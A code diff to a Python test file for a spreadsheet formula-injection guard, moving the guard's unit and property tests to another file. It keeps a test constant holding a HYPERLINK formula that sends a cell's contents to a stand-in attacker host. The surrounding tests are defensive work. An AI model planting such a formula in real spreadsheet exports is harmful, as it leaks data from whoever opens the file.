@@ -10,34 +10,16 @@ import io
 
 import numpy as np
 import openpyxl
-import pytest
 import sqlalchemy as sa
 from click.testing import CliRunner
-from hypothesis import given
-from hypothesis import strategies as st
 
-from tabular import guard as csvsafe
 from scoring import io as scoring_io
+from tabular import guard as csvsafe
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 
 
-@pytest.mark.parametrize(("text", "guarded"), [
-    (EVIL, "'" + EVIL), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"),
-    ("-1.5", "-1.5"), ("+3", "+3"), ("plain", "plain"), ("", ""), ("'quoted", "'quoted"),
-    ("a=b", "a=b")])
-def test_guard_cell(text, guarded):
-    assert csvsafe.guard_cell(text) == guarded
-    assert csvsafe.unguard_cell(guarded) == text
-
-
-@given(st.text())
-def test_guard_round_trips_and_never_starts_a_formula(text):
-    guarded = csvsafe.guard_cell(text)
-    assert csvsafe.unguard_cell(guarded) == text
-    if guarded.startswith(csvsafe.FORMULA_START):
-        float(guarded)  # only plain numbers may start with a sign
+# the guard's own cases (one cell, round trips) are in tests/tabular/test_guard.py
 
 
 def test_every_package_uses_the_one_guard():
